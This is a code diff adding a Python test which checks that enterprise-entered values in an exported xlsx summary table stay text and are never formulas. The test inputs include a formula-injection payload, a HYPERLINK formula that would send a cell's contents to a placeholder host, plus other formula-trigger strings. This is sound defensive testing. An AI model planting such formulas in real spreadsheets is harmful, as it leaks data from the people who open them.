@@ -463,3 +463,38 @@ async def test_a_unit_indexes_only_its_own_lists(rec, issuer, ready):
     assert (
         await rec.get("/v1/recommendation-lists", headers=issuer.headers("county", region="440106"))
     ).status_code == 403
+
+
+FORMULA = '=HYPERLINK("http://x/?"&A1,"点击查看")'
+
+
+async def test_what_enterprises_typed_is_text_in_the_table_never_a_formula(
+    rec, issuer, ready, clock
+):
+    """Found by trying to break it: an enterprise named `=HYPERLINK(…)` became a formula in
+    the draft and in the frozen table the ministry opens."""
+    url = f"{BASE}/excellence/440000"
+    details = {**_details(0), "contact": {"name": "@SUM(1+1)", "mobile": "13800000000"},
+               "scenes": [{**SCENES[0], "instance": "-2+3"}]}  # fmt: skip
+    (did,) = await ready(1, unit="440000", region="440106", details=details,
+                         enterprise_name=FORMULA)  # fmt: skip
+    assert (await rec.put(url, headers=_h(issuer))).status_code == 201
+    added = await rec.post(
+        f"{url}/entries", json={"declaration_id": did},
+        headers=_h(issuer, **{"Idempotency-Key": uuid.uuid4().hex}),
+    )  # fmt: skip
+    assert added.status_code == 201, added.text
+
+    def cells(content: bytes):
+        ws = load_workbook(io.BytesIO(content)).active
+        return {c.coordinate: c for row in ws.iter_rows(min_row=4) for c in row}
+
+    draft = cells((await rec.get(f"{url}/summary-table.xlsx", headers=_h(issuer))).content)
+    assert (await _post(rec, issuer, url, "lock", key=False)).status_code == 200
+    assert (await _post(rec, issuer, url, "submit")).status_code == 200
+    frozen = cells((await rec.get(f"{url}/summary-table.xlsx", headers=_h(issuer))).content)
+    for table in (draft, frozen):
+        assert all(c.data_type != "f" for c in table.values())
+        assert table["B4"].value == FORMULA and table["B4"].data_type == "s"
+        assert table["E4"].value == "@SUM(1+1)" and table["E4"].data_type == "s"
+        assert table["D4"].value.startswith("1.生产作业—人机协同作业—-2+3")
